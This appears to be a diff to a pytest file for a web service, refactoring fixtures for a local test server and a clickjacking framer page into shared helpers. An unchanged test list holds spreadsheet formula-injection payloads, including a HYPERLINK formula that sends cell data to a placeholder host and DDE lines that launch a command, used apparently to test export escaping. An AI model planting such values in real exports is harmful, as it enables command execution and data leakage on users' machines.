@@ -7,8 +7,6 @@ from __future__ import annotations
 
 import datetime as dt
 import io
-import threading
-from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from urllib.parse import quote
 
 import pytest
@@ -16,6 +14,7 @@ from werkzeug.http import parse_options_header
 
 from faults import exports as fx
 from tests.service.helpers import csrf_of, make_worker, replay_runner, solution_files, upload_data
+from tests.service.servers import serving, serving_pages
 
 ISSUE_NAMES = ['=HYPERLINK("http://x/?"&A3,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]
 
@@ -176,14 +175,8 @@ def served(app):
     """The app on a free 127.0.0.1 port (werkzeug's threaded server); yields its base URL."""
     from werkzeug.serving import make_server
 
-    srv = make_server("127.0.0.1", 0, app, threaded=True)
-    t = threading.Thread(target=srv.serve_forever, daemon=True)
-    t.start()
-    try:
-        yield f"http://127.0.0.1:{srv.server_port}"
-    finally:
-        srv.shutdown()
-        t.join(5)
+    with serving(make_server("127.0.0.1", 0, app, threaded=True)) as url:
+        yield url
 
 
 @pytest.fixture
@@ -192,28 +185,8 @@ def framer(served):
     outer = (f'<!doctype html><title>framer</title><iframe id="app" src="{served}/login"></iframe>'
              '<iframe id="own" src="/own"></iframe>').encode()
     own = b'<!doctype html><title>own</title><p id="own">framed fine</p>'
-
-    class Handler(BaseHTTPRequestHandler):
-        def do_GET(self):
-            body = own if self.path == "/own" else outer
-            self.send_response(200)
-            self.send_header("Content-Type", "text/html; charset=utf-8")
-            self.send_header("Content-Length", str(len(body)))
-            self.end_headers()
-            self.wfile.write(body)
-
-        def log_message(self, *args):
-            pass
-
-    httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
-    t = threading.Thread(target=httpd.serve_forever, daemon=True)
-    t.start()
-    try:
-        yield f"http://127.0.0.1:{httpd.server_address[1]}/"
-    finally:
-        httpd.shutdown()
-        httpd.server_close()
-        t.join(5)
+    with serving_pages({"/own": own}, outer) as url:
+        yield url + "/"
 
 
 def test_chromium_refuses_to_frame_the_app(chromium_browser, served, framer):
